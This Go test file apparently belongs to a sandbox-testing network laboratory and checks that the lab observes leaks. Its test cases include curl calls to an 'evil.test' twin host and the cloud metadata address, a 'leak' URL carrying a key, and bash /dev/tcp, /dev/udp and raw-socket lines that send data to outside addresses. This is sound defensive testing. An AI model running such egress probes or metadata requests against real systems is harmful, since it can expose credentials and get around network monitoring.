package netlab_test

import (
	"bytes"
	"context"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	"glovebox/internal/netlab"
)

// outside runs a command on the laboratory's machine without any sandbox: this tells what the laboratory would see of a
// leak.
func outside(t *testing.T, l *netlab.Lab, name string, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	cmd := l.Command(ctx, name, args...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := l.Run(cmd); err != nil {
		t.Logf("%s %q: %v", name, args, err)
	}
	return out.String()
}

// TestTheLaboratorySees tells that a leak would succeed here and be seen: a laboratory that sees nothing proves nothing.
func TestTheLaboratorySees(t *testing.T) {
	l := netlab.Start(t)
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl is missing")
	}
	curl := []string{"-sS", "-m", "5", "--cacert", l.CA}
	for _, c := range []struct {
		name, url, says, query, dialled string
	}{
		{"https", "https://good.test/", "good.test says hello over HTTP/2.0", "A good.test.", "[fd77::2]:443"},
		{"http", "http://good.test/", "good.test says hello over HTTP/1.1", "A good.test.", "[fd77::2]:80"},
		{"twin", "https://evil.test/", "evil.test says hello", "A evil.test.", "[fd77::2]:443"},
		{"version 6", "http://v6.test/", "v6.test says hello", "AAAA v6.test.", "[fd77::2]:80"},
		{"wildcard", "https://x.y.wild.test/", "x.y.wild.test says hello", "A x.y.wild.test.", "10.77.0.5:443"},
		{"alias", "http://fair.test/", "fair.test says hello", "A fair.test.", "[fd77::2]:80"},
		{"metadata", "http://169.254.169.254/latest", "a token of the cloud", "", "169.254.169.254:80"},
		{"metadata 6", "http://[fd00:ec2::254]/latest", "a token of the cloud", "", "[fd00:ec2::254]:80"},
		{"wrong certificate", "https://selfsigned.test/", "certificate", "A selfsigned.test.", "10.77.0.8:443"},
		{"raw", "http://raw.test/x", "raw", "A raw.test.", "10.77.0.9:80"},
		{"leak", "http://echo.test/leak/json?key=abcd", `"token":"abcd"`, "A echo.test.", "10.77.0.4:80"},
		{"public", "https://open.test/", "open.test says hello", "A open.test.", "20.77.0.2:443"},
		{"no such name", "https://nothing.test/", "resolve", "A nothing.test.", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := l.Watch()
			if got := outside(t, l, "curl", append(slices.Clone(curl), c.url)...); !strings.Contains(got, c.says) {
				t.Errorf("curl says %q", got)
			}
			seen, err := w.Seen()
			if err != nil {
				t.Fatal(err)
			}
			asked := slices.ContainsFunc(seen.Queries, func(q netlab.Query) bool { return q.String() == c.query })
			if c.query != "" && !asked || c.query == "" && len(seen.Queries) > 0 {
				t.Errorf("queries %v", seen.Queries)
			}
			if c.dialled == "" && seen.Dialled != nil || c.dialled != "" && !slices.Contains(seen.Dialled, c.dialled) {
				t.Errorf("dialled %q", seen.Dialled)
			}
			syns := slices.ContainsFunc(seen.Packets, func(p netlab.Packet) bool {
				return p.Proto == "tcp" && p.To.String() == c.dialled
			})
			if c.dialled != "" && !syns {
				t.Errorf("packets %v", seen.Packets)
			}
		})
	}
}

// TestTheSinkSees: whatever leaves, wherever it goes.
func TestTheSinkSees(t *testing.T) {
	l := netlab.Start(t)
	w := l.Watch()
	outside(t, l, "bash", "-c", `echo x >/dev/udp/203.0.113.9/4711; echo x >/dev/udp/8.8.8.8/53; echo x >/dev/tcp/10.77.0.2/22
python3 -c "
import socket
s=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_ICMP); s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0',('198.51.100.1',0))
s=socket.socket(socket.AF_INET,socket.SOCK_RAW,47); s.sendto(b'gre',('198.51.100.2',0))
s=socket.socket(socket.AF_INET6,socket.SOCK_DGRAM); s.sendto(b'6',('2001:db8::1',99))
"`)
	seen, err := w.Seen()
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, p := range seen.Packets {
		got = append(got, p.Proto+" "+p.To.String())
	}
	for _, want := range []string{"udp 203.0.113.9:4711", "udp 8.8.8.8:53", "tcp 10.77.0.2:22", "icmp 198.51.100.1:0", "47 198.51.100.2:0",
		"udp [2001:db8::1]:99"} {
		if !slices.Contains(got, want) {
			t.Errorf("%q is not among %q", want, got)
		}
	}
	if w := l.Watch(); true {
		if seen, err := w.Seen(); err != nil || len(seen.Packets) > 0 {
			t.Errorf("of nothing it sees %v, %v", seen.Packets, err)
		}
	}
}

// TestGitAndIndexes: what clients inside will use works without a sandbox.
func TestGitAndIndexes(t *testing.T) {
	l := netlab.Start(t)
	dir := t.TempDir()
	for _, c := range []struct{ name, script, says string }{
		{"git", "git -c http.sslCAInfo=" + l.CA + " clone -q https://git.test/project.git g && cd g && git log --format=%s && " +
			"git -c user.name=a -c user.email=a@b commit -q --allow-empty -m second && git -c http.sslCAInfo=" + l.CA + " push -q && echo pushed",
			"made in the laboratory\npushed"},
		{"pip", "python3 -m pip --version >/dev/null 2>&1 || exit 0; python3 -m pip install -q --cert " + l.CA +
			" --disable-pip-version-check --no-cache-dir --target p -i https://index.test/simple labwheel && cat p/labwheel.py", "made in the laboratory"},
		{"npm", "npm install --silent --no-audit --no-fund --cache c --cafile " + l.CA + " --registry https://index.test/ --prefix n labmodule" +
			" && cat n/node_modules/labmodule/index.js", "made in the laboratory"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if _, err := exec.LookPath(c.name); err != nil {
				t.Skip(c.name + " is missing")
			}
			ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
			defer cancel()
			cmd := l.Command(ctx, "bash", "-c", c.script)
			cmd.Dir = dir
			var out bytes.Buffer
			cmd.Stdout, cmd.Stderr = &out, &out
			if err := l.Run(cmd); err != nil || !strings.Contains(out.String(), c.says) {
				t.Errorf("%v: %s", err, &out)
			}
		})
	}
}
